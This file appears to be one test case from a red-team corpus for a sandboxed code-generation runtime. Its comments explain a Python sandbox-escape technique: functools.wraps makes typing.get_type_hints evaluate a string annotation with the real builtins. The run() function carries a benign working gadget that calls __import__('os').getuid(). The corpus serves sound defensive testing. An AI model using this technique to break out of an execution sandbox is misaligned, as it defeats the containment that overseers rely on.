# Red-team corpus for the sandboxed code-generation runtime.
# Contract: the module defines run(inputs: dict) -> dict. For attack files, a returned
# {'escaped': True, ...} means the attack WORKED (sandbox failure).
# @id: gadget_singledispatch_wrapped_builtins
# @category: escape
# @expect: error   (reject = compile-time refusal or policy error; limit = killed/stopped by a resource limit; error = any exception, fast; ok = must run)
# @layer: both
# @raw_safe: yes   (yes = payload is benign enough to run unsandboxed to validate the snippet)
# @source: typing.get_type_hints unwraps __wrapped__ to pick the eval globals; functools.wraps with default names
# Attempt: Decorate the implementation with functools.wraps(math.sqrt) (default names only):
#   __wrapped__ now points at a C function, so get_type_hints evaluates the string annotation in
#   an empty globals dict, where eval() inserts the REAL builtins (__import__ included).
# Safe sandbox must: not offer singledispatch/register; never return escaped=True.

import functools
import math


@functools.singledispatch
def show(value):
    return "plain"


def run(inputs):
    @functools.wraps(math.sqrt)
    def probe(value: "type('uid_' + str(__import__('os').getuid()), (), {})"):
        return "probe"

    show.register(probe)
    names = [repr(cls) for cls in show.registry.keys() if cls is not object]
    return {"escaped": True, "evidence": names}
